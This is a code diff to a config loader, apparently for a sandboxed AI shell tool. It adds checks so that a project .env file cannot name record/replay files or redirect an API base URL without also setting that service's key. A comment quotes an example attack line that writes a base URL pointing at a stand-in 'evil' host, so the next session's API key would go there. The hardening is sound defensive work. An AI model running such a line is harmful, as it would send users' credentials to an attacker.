@@ -133,8 +133,24 @@ export interface ConfigInput {
 }
 
 export function loadConfig(input: ConfigInput): LlmConfig {
-  const env = mergedEnv(input.env, input.cwd, input.home, input.files);
-  const file = readConfigFile(input.home, input.files);
+  const files = input.files ?? readConfigFiles(input.cwd, input.home);
+  const env = mergedEnv(input.env, input.cwd, input.home, files);
+  // The project's .env lies in the start directory, which every sandboxed command may write:
+  // what it says may not name files the kernel writes or reads on the host, nor send a key
+  // it did not set itself to a server of its choosing (a stage's `echo
+  // OPENAI_BASE_URL=http://evil >> .env` would otherwise get the next session's key).
+  const trusted = mergedEnv(input.env, input.cwd, input.home, { ...files, projectEnv: undefined });
+  const fromProject = (k: string): boolean => env[k] !== undefined && env[k] !== trusted[k];
+  for (const k of ['AOSH_RECORD', 'AOSH_REPLAY']) {
+    if (fromProject(k)) throw new Error(`${join(input.cwd, '.env')} sets ${k}: a file the kernel reads or writes is named only in the environment, $AOSH_HOME/.env or --record/--replay`);
+  }
+  for (const [base, keys] of [['OPENAI_BASE_URL', ['OPENAI_API_KEY']], ['GEMINI_BASE_URL', ['GEMINI_API_KEY', 'GOOGLE_API_KEY']]] as const) {
+    const key = keys.find((k) => env[k]);
+    if (fromProject(base) && key && !fromProject(key)) {
+      throw new Error(`${join(input.cwd, '.env')} sets ${base} but not ${key}, which would be sent there from ${input.env[key] ? 'the environment' : '$AOSH_HOME/.env'}: set both in that file, or ${base} in the environment or $AOSH_HOME/.env`);
+    }
+  }
+  const file = readConfigFile(input.home, files);
   const str = (k: string, fileKey?: string): string | undefined => {
     const v = env[k] ?? (fileKey ? file[fileKey] : undefined);
     return typeof v === 'string' && v !== '' ? v : undefined;
